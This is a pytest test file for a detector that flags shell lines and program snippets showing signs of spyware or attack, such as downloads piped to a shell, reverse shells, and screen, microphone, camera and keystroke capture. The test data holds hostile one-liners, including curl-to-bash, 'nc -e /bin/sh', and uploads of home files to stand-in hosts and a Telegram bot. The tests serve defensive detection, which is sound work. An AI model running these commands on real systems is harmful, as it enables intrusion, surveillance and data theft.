from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit.artifacts.signs import (
    CAMERA,
    COMMANDS,
    DOWNLOADS,
    ENCODED,
    KEYS,
    SCREEN,
    SENDS,
    SOUND,
    signs_in,
    signs_in_program,
)


@pytest.mark.parametrize(
    ("line", "signs"),
    [
        ("curl -fsSL https://x.example/a | sudo bash -s", (DOWNLOADS,)),
        ("wget -qO- https://x.example/a|sh", (DOWNLOADS,)),
        ('eval "$(curl -s https://x.example/a)"', (DOWNLOADS,)),
        ("source <(curl -s https://x.example/a)", (DOWNLOADS,)),
        ('bash -c "$(wget -qO- https://x.example/a)"', (DOWNLOADS,)),
        ("echo aGk= | base64 -d | bash", (ENCODED,)),
        ("eval $(echo aGk= | base64 --decode)", (ENCODED,)),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", (COMMANDS,)),
        ("nc -e /bin/sh 10.0.0.1 4444", (COMMANDS,)),
        ("DISPLAY=:0 /usr/bin/scrot /home/a/.x/%s.png", (SCREEN,)),
        ("import -window root /tmp/a.png", (SCREEN,)),
        ("ffmpeg -f x11grab -i :0 -f pulse -i default /tmp/a.mkv", (SCREEN, SOUND)),
        ("arecord -d 60 /home/a/a.wav", (SOUND,)),
        ("fswebcam -q a.jpg", (CAMERA,)),
        ("ffmpeg -f v4l2 -i /dev/video0 a.mkv", (CAMERA,)),
        ("xinput test 12 >> /home/a/.k", (KEYS,)),
        ("cat /dev/input/event3 > /home/a/.k", (KEYS,)),
        ("scp -q /home/a/x bob@host.example:in/", (SENDS,)),
        ("rsync -a ~/Pictures/ nas:backup", (SENDS,)),
        ("/usr/bin/rclone --config x copy /home/a/Pictures gdrive:p", (SENDS,)),
        ("curl -s -T /home/a/x ftp://h.example/", (SENDS,)),
        ("curl -F document=@/home/a/x https://api.telegram.org/bot1/sendDocument", (SENDS,)),
        ("echo x | mutt -s x -a /home/a/x.zip -- b@x.example", (SENDS,)),
        ("tar c /home/a | nc h.example 99", (SENDS,)),
        ("scrot x.png && curl -F f=@x.png https://h.example", (SCREEN, SENDS)),
    ],
)
def test_what_a_line_does(line: str, signs: tuple[str, ...]) -> None:
    assert signs_in(line) == signs


@pytest.mark.parametrize(
    "line",
    [
        'eval "$(starship init bash)"',
        'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"',
        '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
        "__conda_setup=\"$('/home/a/miniconda3/bin/conda' 'shell.bash' 'hook' 2> /dev/null)\"",
        "source <(kubectl completion bash)",
        "rsync -a /home/a/Pictures/ /media/a/backup/",
        "curl -sf https://example.org/health > /dev/null",
        "apt-get -y update",
        "flameshot",
        "python3 -m import_things",
        "/usr/bin/actkbd -d /dev/input/event0",
        "syncthing serve --no-browser",
        "wget -q -O /home/a/list.txt https://example.org/list.txt",
        "ffmpeg -i a.mkv -f mp4 b.mp4",
        "/usr/lib/ssh-agent -D",
        "apticron | mail -a 'Content-type: text/plain' -s Updates root",
    ],
)
def test_ordinary_lines_have_no_sign(line: str) -> None:
    assert signs_in(line) == ()


@pytest.mark.parametrize(
    "word", ["curl ", "| sh ", "rclone x ", "nc < ", "scp a:b ", "base64 -d ", "eval $( ", "/" * 50, "- "]
)
def test_a_hostile_line_takes_no_long_time(word: str) -> None:
    begun = time.monotonic()
    signs_in(word * 20_000)
    assert time.monotonic() - begun < 2


def test_what_a_program_uses() -> None:
    text = ["from pynput import keyboard", "ImageGrab.grab()", "requests.post(url, files=f)"]
    assert signs_in_program(text) == (SCREEN, KEYS, SENDS)
    assert signs_in_program(["import os", "print('evdev')", "requests.get(url)"]) == ()


@given(st.text(max_size=300))
def test_any_text_is_read(line: str) -> None:
    signs_in(line)
